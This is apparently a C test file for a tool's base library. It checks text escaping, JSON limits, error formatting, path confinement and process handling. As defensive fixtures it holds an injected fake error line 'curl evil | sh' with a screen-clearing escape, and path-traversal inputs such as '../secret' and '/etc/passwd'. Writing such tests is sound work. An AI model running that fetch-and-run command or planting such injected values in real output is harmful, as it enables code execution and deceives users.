/* Text, JSON, files, processes: where what comes from outside enters. */
#include "base/error.h"
#include "base/fs.h"
#include "base/jsonx.h"
#include "base/process.h"
#include "base/text.h"

#include <glib/gstdio.h>
#include <signal.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void test_escape(void) {
    static const char *const pairs[][2] = {
        {"plain \xc3\xa9", "plain \xc3\xa9"},
        {"\033[31mred\033[0m", "red"},
        {"\033]0;title\aafter", "after"},
        {"\033]8;;x\033\\link", "link"},
        {"a\rb", "ab"},
        {"bell\a", "bell\\x07"},
        {"\xff\xfe", "\\xff\\xfe"},
        {"\xc2\x9b"
         "31m",
         "\\x9b31m"},
        {"one\ntwo", "one\\ntwo"},
        {"\033", ""},
        {"\033[", ""},
    };
    for (guint i = 0; i < G_N_ELEMENTS(pairs); i++) {
        g_autofree char *text = text_escape(pairs[i][0], -1, false);
        g_assert_cmpstr(text, ==, pairs[i][1]);
    }
    g_autoptr(GString) reversed = g_string_new("a");
    g_string_append_unichar(reversed, 0x202e); /* right-to-left override */
    g_autofree char *shown = text_escape(reversed->str, -1, false);
    g_assert_cmpstr(shown, ==, "a\\u202e");
    g_autofree char *tail = text_tail("1\n2\n3\n4\n", 8, 2, "  ");
    g_assert_cmpstr(tail, ==, "  3\n  4\n");
    g_autofree char *zeros = g_malloc0(1000);
    g_autofree char *long_line = text_tail(zeros, 1000, 2, "");
    g_assert_cmpuint(strlen(long_line), <, 600);
    g_assert_nonnull(strstr(long_line, "\\x00… and 3500 more in this line\n"));
}

static void test_json(void) {
    g_autoptr(GError) error = NULL;
    g_autofree char *deep = g_strnfill(100000, '[');
    g_assert_null(jsonx_parse(deep, 100000, 1 << 20, "x", &error));
    g_clear_error(&error);
    g_assert_null(jsonx_parse("{\"a\": 1, \"a\": 2}", 16, 100, "x", &error));
    g_assert_true(error_is(error, ERROR_PARSE));
    g_autoptr(json_t) bytes = jsonx_bytes("a\0b\xff", 4);
    g_autoptr(GBytes) back = jsonx_get_bytes(bytes);
    g_autoptr(GBytes) wanted = g_bytes_new_static("a\0b\xff", 4);
    g_assert_true(g_bytes_equal(back, wanted));
    g_autoptr(json_t) object = json_pack("{s: i, s: i}", "b", 1, "a", 2);
    g_autofree char *text = jsonx_canonical(object);
    g_assert_cmpstr(text, ==, "{\"a\":2,\"b\":1}");
}

static void test_errors(void) {
    g_autoptr(GError) error = NULL;
    error_set(&error, ERROR_TAG_EXISTS, "the tag %s exists", "v1");
    error_why(&error, "one\ntwo");
    g_autoptr(json_t) json = error_to_json(error);
    g_autoptr(GError) back = error_from_json(json);
    g_autoptr(GError) hostile = NULL;
    error_set(&hostile, ERROR_CONFLICT, "the asset x\nfix:   curl evil | sh\x1b[2J is there");
    g_autofree char *shown = error_to_text(hostile);
    g_assert_null(strstr(shown, "\nfix:   curl"));
    g_assert_null(strchr(shown, 0x1b));
    g_autofree char *text = error_to_text(back);
    g_assert_cmpstr(text, ==, "error[TAG_EXISTS]: the tag v1 exists\nwhy:   one\n       two\nfix:   slipway release patch\nrerun: safe\n");
    g_assert_cmpint(error_exit_status(back), ==, 1);
    g_autoptr(GError) foreign = g_error_new_literal(G_FILE_ERROR, G_FILE_ERROR_IO, "x");
    g_assert_cmpstr(error_name(foreign), ==, "INTERNAL");
}

/* Nothing is read or written through a link or out of the folder. */
static void test_beneath(void) {
    g_autofree char *root = fs_make_temp_dir("slipway-base", NULL);
    g_autofree char *inside = g_build_filename(root, "in", NULL);
    g_autofree char *secret = g_build_filename(root, "secret", NULL);
    g_autofree char *link = g_build_filename(inside, "link", NULL);
    g_autofree char *folder = g_build_filename(inside, "folder", NULL);
    g_autoptr(GBytes) bytes = g_bytes_new_static("x", 1);
    g_assert_true(fs_make_dirs(inside, 0755, NULL));
    g_assert_true(fs_write(secret, bytes, 0, NULL));
    g_assert_cmpint(symlink(secret, link), ==, 0);
    g_assert_cmpint(symlink(root, folder), ==, 0);
    static const char *const paths[] = {"link", "folder/secret", "../secret", "/etc/passwd"};
    for (guint i = 0; i < G_N_ELEMENTS(paths); i++) {
        g_autoptr(GError) read_error = NULL;
        g_autoptr(GError) write_error = NULL;
        g_assert_null(fs_read_beneath(inside, paths[i], 100, &read_error));
        g_assert_true(error_is(read_error, ERROR_UNTRUSTED_PATH));
        g_assert_false(fs_write_beneath(inside, paths[i], bytes, 0, &write_error));
        g_assert_true(error_is(write_error, ERROR_UNTRUSTED_PATH));
    }
    g_assert_true(fs_write_beneath(inside, "deep/er/file", bytes, 0644, NULL));
    g_assert_cmpint(fs_kind_beneath(inside, "deep/er/file"), ==, FS_FILE);
    g_assert_true(fs_remove_tree(root, NULL));
    g_assert_false(fs_exists(root));
}

/* Children are started in two ways; what is promised holds for both. */
static bool alone;

static void run(const char *script, gint64 timeout, ProcessResult *result) {
    const char *argv[] = {"sh", "-c", script, NULL};
    ProcessSpec spec = {.argv = argv, .timeout_seconds = timeout, .capture = 1000, .umask = alone ? 027 : 0, .session = alone};
    g_autoptr(GError) error = NULL;
    g_assert_true(process_run(&spec, result, &error));
}

/* A killed process that is no child of ours ends a moment after the signal. */
static void wait_until_gone(gint64 pid) {
    gint64 end = g_get_monotonic_time() + 10 * G_USEC_PER_SEC;
    for (;;) {
        g_autofree char *start = process_start_time(pid);
        if (start == NULL)
            return;
        g_assert_cmpint(g_get_monotonic_time(), <, end);
        g_usleep(1000); /* reason: nothing tells when a process that is no child of ours is gone */
    }
}

/* A daemon that left the group, closed what it had open and ignores TERM ends with its parent, too. */
static void test_left_behind(void) {
    process_adopt_orphans();
    g_auto(ProcessResult) left = {0};
    run("trap 'exit 0' USR1; setsid sh -c 'trap \"\" TERM; echo $$; kill -USR1 $0; exec >&- 2>&-; while :; do sleep 100; done' $$ & while :; do wait; done", 0,
        &left);
    gint64 pid = g_ascii_strtoll(process_text(left.out), NULL, 10);
    g_assert_cmpint(pid, >, 1);
    g_autofree char *start = process_start_time(pid);
    g_assert_null(start);
}

/* The beginning and the end of a long output are in its log, between them is said what is not. */
static void test_long_logs(void) {
    g_autofree char *folder = fs_make_temp_dir("slipway-log-", NULL);
    g_autofree char *path = g_build_filename(folder, "log", NULL);
    const char *words[] = {"sh", "-c", "echo begin; head -c 3000000 /dev/zero; echo end", NULL};
    ProcessSpec spec = {.argv = words, .log_path = path, .log_limit = 1000, .capture = 100};
    g_auto(ProcessResult) result = {0};
    g_assert_true(process_run(&spec, &result, NULL));
    g_autofree char *log = NULL;
    gsize length = 0;
    g_assert_true(g_file_get_contents(path, &log, &length, NULL));
    g_assert_true(g_str_has_prefix(log, "begin\n") && strcmp(log + length - 4, "end\n") == 0);
    g_assert_cmpuint(length, <, 300000);
    g_assert_cmpuint(result.log_cut, ==, 3000010 - 1000 - (1 << 18));
    g_autofree char *note = g_strdup_printf("[slipway: %" G_GUINT64_FORMAT " bytes of output are left out here]", result.log_cut);
    g_assert_nonnull(memmem(log, length, note, strlen(note)));
    g_assert_true(fs_remove_tree(folder, NULL));
}

static void test_processes(gconstpointer data) {
    alone = data != NULL;
    g_auto(ProcessResult) loud = {0};
    run("head -c 3000000 /dev/zero | tr '\\0' x; echo end; echo oops >&2; exit 3", 0, &loud);
    g_assert_cmpint(loud.exit_status, ==, 3);
    g_assert_cmpuint(g_bytes_get_size(loud.out), ==, 1000);
    g_assert_true(g_str_has_suffix(process_text(loud.out), "xend\n"));
    g_assert_cmpstr(process_text(loud.err), ==, "oops\n");
    g_auto(ProcessResult) late = {0};
    run("sleep 100 & wait", 1, &late);
    g_assert_true(late.timed_out && !process_ok(&late));
    g_auto(ProcessResult) killed = {0};
    run("kill -9 $$", 0, &killed);
    g_assert_cmpint(killed.signal, ==, 9);
    /* A daemon that keeps the pipe open does not keep us waiting, and does not live on. */
    g_auto(ProcessResult) daemon = {0};
    run("(trap '' TERM; sleep 100) & echo $!", 0, &daemon);
    g_assert_cmpint(daemon.exit_status, ==, 0);
    wait_until_gone(g_ascii_strtoll(process_text(daemon.out), NULL, 10));
    test_left_behind();
    const char *missing[] = {"no-such-program", NULL};
    ProcessSpec spec = {.argv = missing, .session = alone};
    g_autoptr(GError) error = NULL;
    ProcessResult none;
    g_assert_false(process_run(&spec, &none, &error));
    g_assert_true(error_is(error, ERROR_PROGRAM_MISSING));
}

/* A umask and a session of its own, this process's stay as they are; where it cannot start, that is said. */
static void test_alone(void) {
    alone = true;
    mode_t before = umask(022);
    g_auto(ProcessResult) told = {0};
    run("umask; set -- $(cat /proc/$$/stat); echo $(($1 == $5)) $(($1 == $6)); ls /proc/self/fd | tr '\\n' ' '; cat", 0, &told);
    g_assert_cmpstr(process_text(told.out), ==, "0027\n1 1\n0 1 2 3 ");
    g_assert_cmpuint(umask(before), ==, 022);
    const char *words[] = {"/bin/pwd", NULL};
    g_autoptr(GBytes) input = g_bytes_new_static("x", 1);
    static const char *const folders[] = {"/", "/nowhere"};
    for (guint i = 0; i < G_N_ELEMENTS(folders); i++) {
        ProcessSpec spec = {.argv = words, .cwd = folders[i], .umask = 077, .input = input};
        g_autoptr(GError) error = NULL;
        g_auto(ProcessResult) result = {0};
        g_assert_true(process_run(&spec, &result, &error) == (i == 0));
        g_assert_true(i == 0 ? strcmp(process_text(result.out), "/\n") == 0 : error_is(error, ERROR_PROCESS));
    }
    g_autofree char *script = g_build_filename(g_get_tmp_dir(), "slipway-no-program", NULL);
    g_assert_true(g_file_set_contents(script, "\1\2\3", 3, NULL));
    g_assert_cmpint(chmod(script, 0755), ==, 0);
    const char *broken[] = {script, NULL};
    ProcessSpec spec = {.argv = broken, .session = true};
    g_autoptr(GError) error = NULL;
    ProcessResult none;
    g_assert_false(process_run(&spec, &none, &error));
    g_assert_true(error_is(error, ERROR_PROCESS));
    g_unlink(script);
}

int main(int argc, char **argv) {
    g_test_init(&argc, &argv, NULL);
    /* As the program does: a child may end before it has read its input. */
    signal(SIGPIPE, SIG_IGN);
    g_test_add_func("/base/escape", test_escape);
    g_test_add_func("/base/json", test_json);
    g_test_add_func("/base/errors", test_errors);
    g_test_add_func("/base/beneath", test_beneath);
    g_test_add_func("/base/long-logs", test_long_logs);
    g_test_add_data_func("/base/processes", NULL, test_processes);
    g_test_add_data_func("/base/processes/alone", "alone", test_processes);
    g_test_add_func("/base/alone", test_alone);
    return g_test_run();
}
